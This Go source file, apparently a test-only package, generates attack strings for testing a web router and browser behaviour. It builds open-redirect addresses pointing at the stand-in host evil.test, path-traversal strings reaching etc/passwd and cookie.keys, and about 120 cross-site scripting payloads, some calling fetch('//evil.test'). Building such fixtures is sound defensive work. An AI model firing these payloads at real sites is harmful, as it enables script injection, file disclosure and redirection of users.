// Package attack is for tests only. It has texts that attackers send, for the tests of the router and of the
// whole program in a browser.
package attack

import (
	"fmt"
	"strings"
)

// Elsewhere are 60 addresses that are not the site's.
func Elsewhere() (list []string) {
	for _, host := range []string{"evil.test", "evil.test%2f..", "cards.test.evil.test", "cards.test@evil.test", "[::1]", "evil.test:80"} {
		for _, begin := range []string{"//", "http://", "https:", "\\\\", "/\\", "///", "/%2f", "/%5c", "\t//", "/.//"} {
			list = append(list, begin+host)
		}
	}
	return list
}

// Paths are 200 ways out of a folder to a file that is nobody's business.
func Paths() (list []string) {
	for _, up := range []string{"../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..\\", "....//", "..;/", "%252e%252e%252f", ".%00./"} {
		for _, deep := range []int{1, 2, 5, 9} {
			for _, file := range []string{"etc/passwd", "static.go", "go.mod", "cookie.keys", "fortythieves.db"} {
				list = append(list, strings.Repeat(up, deep)+file)
			}
		}
	}
	return list
}

// Scripts are 120 texts that would run a script where one is not escaped. Each script opens a dialog, asks another
// host, changes the title to x, or sets x on the topmost window.
func Scripts() (list []string) {
	for _, call := range []string{"alert(1)", "fetch('//evil.test')", "document.title='x'", "import('data:text/javascript,top.x=1')", "eval('top.x=1')", "top.x=1"} {
		for _, shape := range []string{`<script>%s</script>`, `"><script>%s</script>`, `'><img src=x onerror=%s>`, `<svg onload=%s>`, `<svg><animate onbegin=%s>`,
			`</title><script>%s</script>`, `</textarea><script>%s</script>`, `javascript:%s`, `<a href="javascript:%s">x</a>`, `<iframe srcdoc="<script>%s</script>">`,
			`" onfocus="%s" autofocus="`, `' onmouseover='%s`, `<body onpageshow=%s>`, `<details open ontoggle=%s>`, `<math><a xlink:href="javascript:%s">`,
			`<!--><script>%s</script>`, `<scr<script>ipt>%s</script>`, `{{constructor.constructor('%s')()}}`, `<div hx-on:load="%s" hx-get="//evil.test">`, "<base href='//evil.test'>%s"} {
			list = append(list, fmt.Sprintf(shape, call))
		}
	}
	return list
}
